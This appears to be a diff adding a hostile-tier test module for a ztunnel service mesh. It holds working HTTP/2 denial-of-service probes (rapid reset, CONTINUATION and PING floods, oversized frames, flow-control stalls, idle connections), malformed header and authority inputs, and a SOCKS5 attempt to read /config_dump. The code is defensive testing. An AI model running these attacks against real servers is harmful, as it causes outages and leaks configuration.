@@ -1,0 +1,496 @@
+"""The hostile tier's processes, run inside the test's network namespaces with
+``python -m tests.hostile.peer COMMAND ...``: a counting echo backend, a legitimate client, and
+the attacks. Each prints one JSON object on stdout (the backend: nothing) and is bounded in
+count and time by its arguments.
+
+Why processes: the mesh lives in network namespaces the test process never enters (see
+ambit/dev/netns.py), so whatever talks to it runs in one of them. The attacker is a mesh peer
+with a valid certificate (``--identity-dir``/``--identity``): it completes mutual TLS with the
+ztunnel and then misbehaves in HTTP/2 (frames from ``tests/hostile/h2wire.py``).
+
+* ``backend --port P --accept-log F --ready-file R``: echoes bytes; one line in F per accepted
+  connection (the rapid-reset probe counts backend dials with it).
+* ``legit --host H --port P [--count N | --stop-file F]``: one new connection per request, a
+  line out and its echo back; latency and failures.
+* ``attack PROBE ...``: the probes (see ``ATTACKS``).
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import contextlib
+import functools
+import json
+import os
+import signal
+import socket
+import struct
+import sys
+import time
+from collections.abc import Awaitable, Callable, Coroutine, Sequence
+from pathlib import Path
+from typing import Any
+
+import hpack
+
+from tests.hostile import h2wire as w
+
+MiB = 1024 * 1024
+
+
+# --- backend -------------------------------------------------------------------------------
+
+
+async def backend(port: int, accept_log: Path, ready_file: Path) -> None:
+    fd = os.open(accept_log, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
+
+    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        os.write(fd, b"a\n")
+        try:
+            while data := await reader.read(65536):
+                writer.write(data)
+                await writer.drain()
+        except (ConnectionError, OSError):
+            pass
+        finally:
+            writer.close()
+
+    server = await asyncio.start_server(handle, "0.0.0.0", port, backlog=1024,
+                                        reuse_address=True)
+    await asyncio.to_thread(ready_file.write_text, f"{port}\n")
+    stop = asyncio.Event()
+    loop = asyncio.get_running_loop()
+    for sig in (signal.SIGTERM, signal.SIGINT):
+        loop.add_signal_handler(sig, stop.set)
+    async with server:
+        await stop.wait()
+
+
+# --- the legitimate client -----------------------------------------------------------------
+
+
+def _one_request(host: str, port: int, message: bytes, timeout: float) -> None:
+    with socket.create_connection((host, port), timeout=timeout) as s:
+        s.sendall(message)
+        got = b""
+        while not got.endswith(b"\n"):
+            chunk = s.recv(4096)
+            if not chunk:
+                raise ConnectionError(f"closed after {len(got)} of {len(message)} bytes")
+            got += chunk
+    if got != message:
+        raise ConnectionError(f"echo {got[:60]!r} is not {message[:60]!r}")
+
+
+def legit(host: str, port: int, count: int, stop_file: Path | None, max_seconds: float,
+          interval: float, timeout: float) -> dict[str, Any]:
+    """Requests until ``count`` are done, or ``stop_file`` appears (at most ``max_seconds``)."""
+    latencies: list[float] = []
+    errors: list[str] = []
+    failed = 0
+    t0 = time.monotonic()
+    n = 0
+    while True:
+        if count and n >= count:
+            break
+        if not count and ((stop_file is not None and stop_file.exists())
+                          or time.monotonic() - t0 > max_seconds):
+            break
+        n += 1
+        start = time.monotonic()
+        try:
+            _one_request(host, port, f"legit-{os.getpid()}-{n}\n".encode(), timeout)
+            latencies.append(time.monotonic() - start)
+        except OSError as e:
+            failed += 1
+            if len(errors) < 5:
+                errors.append(f"request {n} after {time.monotonic() - t0:.2f}s: "
+                              f"{type(e).__name__}: {e}")
+        time.sleep(interval)
+    latencies.sort()
+
+    def pct(p: float) -> float | None:
+        if not latencies:
+            return None
+        return round(1000 * latencies[min(len(latencies) - 1, int(p * len(latencies)))], 1)
+
+    return {"ok": len(latencies), "failed": failed, "errors": errors,
+            "p50_ms": pct(0.5), "p95_ms": pct(0.95),
+            "max_ms": round(1000 * latencies[-1], 1) if latencies else None,
+            "seconds": round(time.monotonic() - t0, 2)}
+
+
+# --- attacks -------------------------------------------------------------------------------
+
+
+class Attack:
+    """What every attack knows: where the ztunnel is, what to CONNECT to, which certificate."""
+
+    def __init__(self, args: argparse.Namespace) -> None:
+        self.host: str = args.host
+        self.port: int = args.port
+        self.target: str = args.target
+        ns, _, sa = args.identity.partition("/")
+        self.ctx = w.tls_context(Path(args.identity_dir), ns, sa)
+        self.connections: int = args.connections
+        self.seconds: float = args.seconds
+
+    async def peer(self) -> w.Peer:
+        return await w.Peer.open(self.ctx, self.host, self.port)
+
+
+async def _gather_limited(seconds: float, coros: Sequence[Awaitable[dict[str, Any]]]) \
+        -> list[dict[str, Any]]:
+    results = await asyncio.wait_for(asyncio.gather(*coros, return_exceptions=True),
+                                     seconds)
+    return [r if isinstance(r, dict) else {"error": f"{type(r).__name__}: {r}"}
+            for r in results]
+
+
+async def upload(a: Attack, streams: int = 100, per_stream: int = 2 * MiB) -> dict[str, Any]:
+    """Probe 1: ``streams`` CONNECTs each uploading ``per_stream`` bytes to the echo backend,
+    within the flow-control windows the ztunnel grants, while never giving any credit back
+    for the echoed answers (our windows stay at 65535: the answers pile up at the ztunnel)."""
+    p = await a.peer()
+    await p.handshake()
+    t0 = time.monotonic()
+    await p.send(b"".join(p.open_stream(2 * i + 1, a.target) for i in range(streams)))
+    await p.wait_for(lambda: len(p.statuses) + len(p.resets) >= streams or p.closed, 10)
+    accepted = [sid for sid, st in p.statuses.items() if st == 200]
+    left = dict.fromkeys(accepted, per_stream)
+    chunk = bytes(16 * 1024)
+    sent = 0
+    last_progress = time.monotonic()
+    deadline = t0 + a.seconds
+    timeline: list[tuple[float, int]] = []
+    while left and not p.closed and time.monotonic() < deadline:
+        batch = []
+        for sid in list(left):
+            n = min(len(chunk), left[sid], p.stream_windows.get(sid, 0), p.conn_window)
+            if sid in p.resets or sid in p.ended:
+                del left[sid]
+                continue
+            if n <= 0:
+                continue
+            batch.append(w.data(sid, chunk[:n]))
+            left[sid] -= n
+            p.stream_windows[sid] -= n
+            p.conn_window -= n
+            sent += n
+            if not left[sid]:
+                del left[sid]
+        if batch:
+            if not await p.send(b"".join(batch), within=max(0.1, deadline - time.monotonic())):
+                break
+            last_progress = time.monotonic()
+            timeline.append((round(last_progress - t0, 2), sent))
+        else:
+            await p.wait_for(lambda: (p.conn_window > 0 and any(
+                p.stream_windows.get(s, 0) > 0 for s in left)) or p.closed,
+                max(0.0, deadline - time.monotonic()))
+    stalled_for = time.monotonic() - last_progress
+    out = {"streams_accepted": len(accepted), "streams_refused": len(p.statuses) - len(accepted),
+           "resets": len(p.resets), "bytes_sent": sent, "bytes_wanted": streams * per_stream,
+           "stalled_for_s": round(stalled_for, 2),
+           "timeline": timeline[:: max(1, len(timeline) // 20)],
+           **p.summary(t0)}
+    await p.close()
+    return out
+
+
+async def bigframe(a: Attack) -> dict[str, Any]:
+    """Probe 2: on each connection a frame header declaring 16 MiB (the largest a 24-bit length
+    can say; the ztunnel's max frame is 256 KiB), then its payload but one byte."""
+
+    async def one(i: int) -> dict[str, Any]:
+        p = await a.peer()
+        await p.handshake()
+        declared = (1 << 24) - 1
+        kind = w.HEADERS if i % 2 == 0 else w.DATA
+        t0 = time.monotonic()
+        await p.send(w.frame_header(declared, kind, 0, 1))
+        sent = 0
+        chunk = bytes(64 * 1024)
+        deadline = t0 + a.seconds
+        while sent < declared - 1 and not p.closed and time.monotonic() < deadline:
+            n = min(len(chunk), declared - 1 - sent)
+            if not await p.send(chunk[:n], within=max(0.1, deadline - time.monotonic())):
+                break
+            sent += n
+        await p.wait_closed(max(0.0, deadline - time.monotonic()))
+        out = {"frame": w.FRAME_NAMES[kind], "payload_sent": sent, **p.summary(t0)}
+        await p.close()
+        return out
+
+    conns = await _gather_limited(a.seconds + 15, [one(i) for i in range(a.connections)])
+    return {"connections": conns}
+
+
+async def continuation_flood(a: Attack, max_frames: int = 2000) -> dict[str, Any]:
+    """Probe 3: HEADERS without END_HEADERS, then CONTINUATION frames that never end the
+    block (each as large as the ztunnel's max frame allows), until closed."""
+
+    async def one(i: int) -> dict[str, Any]:
+        p = await a.peer()
+        await p.handshake()
+        block = w.connect_block(p.encoder, a.target)
+        t0 = time.monotonic()
+        await p.send(w.headers(1, block, end_headers=False))
+        fragment = b"\x00\x05x-pad" + bytes(256 * 1024 - 16)
+        frames = 0
+        deadline = t0 + a.seconds
+        while frames < max_frames and not p.closed and time.monotonic() < deadline:
+            if not await p.send(w.continuation(1, fragment),
+                                within=max(0.1, deadline - time.monotonic())):
+                break
+            frames += 1
+        await p.wait_closed(max(0.0, deadline - time.monotonic()))
+        out = {"continuation_frames": frames, "bytes": frames * len(fragment),
+               **p.summary(t0)}
+        await p.close()
+        return out
+
+    conns = await _gather_limited(a.seconds + 15, [one(i) for i in range(a.connections)])
+    return {"connections": conns}
+
+
+async def rapid_reset(a: Attack, streams: int = 20000, batch: int = 100) -> dict[str, Any]:
+    """Probe 4: HEADERS (a CONNECT to the backend) and at once RST_STREAM, ``streams`` times,
+    on one connection (never more than one stream open)."""
+    p = await a.peer()
+    await p.handshake()
+    # Never-indexed literals: every block is the same bytes and leaves HPACK state alone.
+    enc = hpack.Encoder()
+    block = enc.encode([hpack.NeverIndexedHeaderTuple(b":method", b"CONNECT"),
+                        hpack.NeverIndexedHeaderTuple(b":authority", a.target.encode())],
+                       huffman=False)
+    t0 = time.monotonic()
+    sent = 0
+    deadline = t0 + a.seconds
+    while sent < streams and not p.closed and time.monotonic() < deadline:
+        n = min(batch, streams - sent)
+        frames = b"".join(w.headers(2 * (sent + i) + 1, block) + w.rst_stream(2 * (sent + i) + 1)
+                          for i in range(n))
+        if not await p.send(frames, within=max(0.1, deadline - time.monotonic())):
+            break
+        sent += n
+    flood_s = time.monotonic() - t0
+    await p.wait_closed(max(0.0, min(5.0, deadline - time.monotonic())))
+    out = {"streams_sent": sent, "flood_s": round(flood_s, 2),
+           "answered_200": sum(1 for s in p.statuses.values() if s == 200),
+           "resets_from_server": len(p.resets), **p.summary(t0)}
+    await p.close()
+    return out
+
+
+async def ping_flood(a: Attack, max_pings: int = 2_000_000, batch: int = 4096) \
+        -> dict[str, Any]:
+    """Probe 5: PING frames as fast as the ztunnel takes them; nothing is read after the
+    handshake, so every PING ACK it queues stays queued."""
+    p = await a.peer()
+    await p.handshake(pump=False)
+    frames = b"".join(w.ping(struct.pack(">Q", i)) for i in range(batch))
+    t0 = time.monotonic()
+    sent = 0
+    stalled_at: float | None = None
+    deadline = t0 + a.seconds
+    while sent < max_pings and not p.closed and time.monotonic() < deadline:
+        if not await p.send(frames, within=3.0):
+            if not p.closed:
+                stalled_at = time.monotonic()
+            break
+        sent += batch
+    if stalled_at is not None:  # the ztunnel stopped reading: stay until the deadline
+        await p.wait_closed(max(0.0, deadline - time.monotonic()))
+    # Only now read what the ztunnel sent: ACKs, then maybe a GOAWAY, then EOF.
+    p.start_pump()
+    await p.wait_closed(3.0)
+    out = {"pings_sent": sent, "ping_bytes": sent * 17,
+           "stalled_after_s": None if stalled_at is None else round(stalled_at - t0, 2),
+           **p.summary(t0)}
+    await p.close()
+    return out
+
+
+async def idle(a: Attack) -> dict[str, Any]:
+    """Probe 6: connections that finish mutual TLS and then send nothing at all."""
+
+    async def one() -> dict[str, Any]:
+        p = await a.peer()
+        t0 = time.monotonic()
+        p.start_pump()
+        await p.wait_closed(a.seconds)
+        out = p.summary(t0)
+        await p.close()
+        return out
+
+    conns = await _gather_limited(a.seconds + 20, [one() for _ in range(a.connections)])
+    return {"connections": conns}
+
+
+async def _echo_stream(p: w.Peer, sid: int, target: str, message: bytes) -> dict[str, Any]:
+    """A CONNECT on ``sid`` and one line through it; its status and the echo."""
+    p.grant = True
+    await p.send(p.open_stream(sid, target))
+    await p.wait_for(lambda: sid in p.statuses or sid in p.resets or p.closed, 10)
+    if p.statuses.get(sid) == 200:
+        await p.send(w.data(sid, message))
+        await p.wait_for(lambda: bytes(p.received.get(sid, b"")).endswith(b"\n") or p.closed,
+                         10)
+    return {"status": p.statuses.get(sid), "echo": bytes(p.received.get(sid, b"")).decode(
+        errors="replace")}
+
+
+async def bad_requests(a: Attack, cases: Sequence[tuple[str, bytes, Sequence[tuple[bytes, bytes]]]]
+                       ) -> dict[str, Any]:
+    """Probes 7 and 8: each bad CONNECT on its own stream of one connection, a good one
+    before and after, and an echo through the good ones."""
+    p = await a.peer()
+    await p.handshake()
+    t0 = time.monotonic()
+    out: dict[str, Any] = {"before": await _echo_stream(p, 1, a.target, b"before\n")}
+    bad: dict[str, Any] = {}
+    sid = 3
+    for name, authority, extra in cases:
+        await p.send(p.open_stream(sid, authority, extra))
+        await p.wait_for(functools.partial(_answered, p, sid), 10)
+        bad[name] = {"stream": sid, "status": p.statuses.get(sid),
+                     "reset": w.error_name(p.resets[sid]) if sid in p.resets else None,
+                     "elapsed_s": round(time.monotonic() - t0, 3)}
+        sid += 2
+    out["bad"] = bad
+    out["after"] = await _echo_stream(p, sid, a.target, b"after\n")
+    await asyncio.sleep(0.5)  # a GOAWAY or close would show here
+    out.update(p.summary(t0))
+    await p.close()
+    return out
+
+
+def _answered(p: w.Peer, sid: int) -> bool:
+    return sid in p.statuses or sid in p.resets or p.closed
+
+
+def _bad_header_cases(target: str) -> list[tuple[str, bytes, list[tuple[bytes, bytes]]]]:
+    t = target.encode()
+    return [
+        ("value-not-utf8", t, [(b"x-evil", b"\xff\xfe\x80")]),
+        ("value-overlong-utf8", t, [(b"x-evil", b"\xc0\xaf")]),
+        ("name-not-utf8", t, [(b"x-\xff", b"1")]),
+        ("authority-not-utf8", b"\xff" + t, []),
+        ("forwarded-not-utf8", t, [(b"forwarded", b"for=\xff")]),
+    ]
+
+
+def _authority_cases(target: str) -> list[tuple[str, bytes, list[tuple[bytes, bytes]]]]:
+    host = target.rpartition(":")[0]
+    return [
+        ("arabic-indic-127.0.0.20", "127.0.0.20:٨٠٨٠".encode(), []),
+        ("arabic-indic-target", f"{host}:٨٠٨٠".encode(), []),
+        ("fullwidth-target", f"{host}:\uff18\uff10\uff18\uff10".encode(), []),
+        ("plus-sign", f"{host}:+8080".encode(), []),
+        ("underscore", f"{host}:8_080".encode(), []),
+    ]
+
+
+async def socks5(host: str, port: int, destinations: Sequence[str], seconds: float) \
+        -> dict[str, Any]:
+    """Probe 9: SOCKS5 CONNECT requests for the ztunnel's own ports; then, if a connection is
+    granted, ask for /config_dump through it."""
+    out: dict[str, Any] = {}
+    for dest in destinations:
+        name, _, dport = dest.rpartition(":")
+        t0 = time.monotonic()
+        res: dict[str, Any] = {}
+        try:
+            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 5)
+        except OSError as e:
+            out[dest] = {"error": f"connect: {e}"}
+            continue
+        try:
+            writer.write(b"\x05\x01\x00")
+            method = await asyncio.wait_for(reader.readexactly(2), 5)
+            res["method"] = method.hex()
+            try:
+                addr = b"\x01" + socket.inet_aton(name)
+            except OSError:
+                addr = b"\x03" + bytes([len(name)]) + name.encode()
+            writer.write(b"\x05\x01\x00" + addr + struct.pack(">H", int(dport)))
+            reply = await asyncio.wait_for(reader.read(10), seconds)
+            res["reply"] = reply[1] if len(reply) > 1 else None
+            if reply[1:2] == b"\x00":
+                writer.write(b"GET /config_dump HTTP/1.0\r\nHost: x\r\n\r\n")
+                body = await asyncio.wait_for(reader.read(4096), 5)
+                res["leaked"] = body[:200].decode(errors="replace")
+            else:
+                rest = await asyncio.wait_for(reader.read(4096), 5)
+                res["after_reply"] = rest[:200].decode(errors="replace")
+        except (OSError, TimeoutError, asyncio.IncompleteReadError) as e:
+            res["error"] = f"{type(e).__name__}: {e}"
+        finally:
+            writer.close()
+        res["elapsed_s"] = round(time.monotonic() - t0, 3)
+        out[dest] = res
+    return out
+
+
+ATTACKS: dict[str, Callable[[Attack], Coroutine[Any, Any, dict[str, Any]]]] = {
+    "upload": upload,
+    "bigframe": bigframe,
+    "continuation": continuation_flood,
+    "rapid-reset": rapid_reset,
+    "ping-flood": ping_flood,
+    "idle": idle,
+    "bad-header": lambda a: bad_requests(a, _bad_header_cases(a.target)),
+    "bad-authority": lambda a: bad_requests(a, _authority_cases(a.target)),
+}
+
+
+def main(argv: Sequence[str] | None = None) -> int:
+    p = argparse.ArgumentParser(prog="python -m tests.hostile.peer", description=__doc__)
+    sub = p.add_subparsers(dest="cmd", required=True)
+    b = sub.add_parser("backend")
+    b.add_argument("--port", type=int, required=True)
+    b.add_argument("--accept-log", type=Path, required=True)
+    b.add_argument("--ready-file", type=Path, required=True)
+    lg = sub.add_parser("legit")
+    lg.add_argument("--host", required=True)
+    lg.add_argument("--port", type=int, required=True)
+    lg.add_argument("--count", type=int, default=0)
+    lg.add_argument("--stop-file", type=Path)
+    lg.add_argument("--max-seconds", type=float, default=60)
+    lg.add_argument("--interval", type=float, default=0.1)
+    lg.add_argument("--timeout", type=float, default=5)
+    at = sub.add_parser("attack")
+    at.add_argument("probe", choices=sorted(ATTACKS))
+    at.add_argument("--host", required=True, help="the attacked pod's IP (its ztunnel's HBONE)")
+    at.add_argument("--port", type=int, default=15008)
+    at.add_argument("--target", required=True, help="IP:PORT to CONNECT to")
+    at.add_argument("--identity-dir", required=True)
+    at.add_argument("--identity", required=True, help="NAMESPACE/SERVICEACCOUNT")
+    at.add_argument("--connections", type=int, default=1)
+    at.add_argument("--seconds", type=float, default=10)
+    sk = sub.add_parser("socks5")
+    sk.add_argument("--host", default="127.0.0.1")
+    sk.add_argument("--port", type=int, required=True)
+    sk.add_argument("--seconds", type=float, default=5)
+    sk.add_argument("destinations", nargs="+", help="HOST:PORT to ask for")
+    args = p.parse_args(argv)
+    if args.cmd == "backend":
+        asyncio.run(backend(args.port, args.accept_log, args.ready_file))
+        return 0
+    if args.cmd == "legit":
+        result = legit(args.host, args.port, args.count, args.stop_file, args.max_seconds,
+                       args.interval, args.timeout)
+    elif args.cmd == "socks5":
+        result = asyncio.run(socks5(args.host, args.port, args.destinations, args.seconds))
+    else:
+        attack = Attack(args)
+        result = asyncio.run(ATTACKS[args.probe](attack))
+    print(json.dumps(result), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    with contextlib.suppress(BrokenPipeError):
+        sys.exit(main())
